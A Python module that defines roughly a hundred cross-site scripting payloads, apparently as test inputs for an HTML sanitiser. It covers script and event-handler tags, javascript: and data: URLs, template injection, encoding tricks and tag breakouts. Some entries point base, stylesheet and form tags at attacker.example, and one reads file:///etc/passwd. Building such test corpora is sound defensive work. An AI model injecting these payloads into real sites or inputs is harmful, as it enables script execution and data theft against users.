"""A hundred ways in which a document might try to run a script in the page that shows it.

Each calls `alert` or sets `window.ran`. The forms are those of the OWASP and PortSwigger cheat sheets.
"""

from __future__ import annotations

from itertools import product

_RUN = "window.ran=1,alert(1)"

_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<!--<script></script><script>{_RUN}</script>-->",
    f"<!--</script><script>{_RUN}//",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f'<iframe src="javascript:{_RUN}">',
    f'<object data="javascript:{_RUN}">',
    f'<embed src="javascript:{_RUN}">',
    f'<a href="javascript:{_RUN}" autofocus onfocus={_RUN}>x</a>',
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<marquee onstart={_RUN}>",
    f"<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href='https://attacker.example/'>",
    "<link rel=stylesheet href='https://attacker.example/x.css'>",
    "<form action='https://attacker.example/'><button>x</button></form>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<x contenteditable onblur={_RUN} autofocus tabindex=1>",
    f"<button popovertarget=x>o</button><p popover id=x onbeforetoggle={_RUN}>",
]
_BREAKS = ['"', "'", "`", "]]>", "-->", "</title>", "</style>", "</textarea>", "</noscript>", "*/", "\\u003c", "&quot;"]
_ADDRESSES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://example.org/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD5{'x' * 8}",
    f"vbscript:{_RUN}",
    "https://user:word@attacker.example/",
    f'http://example.org/" onmouseover="{_RUN}',
    f"https://example.org/' autofocus onfocus='{_RUN}",
    "file:///etc/passwd",
    "//attacker.example/x",
    "blob:https://attacker.example/x",
]
_CODE = [
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"'-({_RUN})-'",
    f'";{_RUN};//',
    f"\\';{_RUN};//",
    f"\u2028{_RUN}\u2029",
    "__proto__",
    "constructor",
    "toString",
    f"\u202e>tpircs<{_RUN}",
    f"\x00<script>{_RUN}</script>",
    f"\ufeff<script>{_RUN}</script>",
    f"＜script＞{_RUN}＜/script＞",
    f"\ud83c<script>{_RUN}</script>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
]
_BROKEN_OUT = [
    f"{mark}><{element}" for mark, element in product(_BREAKS, (_ELEMENTS[0][1:], _ELEMENTS[4][1:], _ELEMENTS[6][1:]))
]

PAYLOADS = [*_ELEMENTS, *_ADDRESSES, *_CODE, *_BROKEN_OUT]
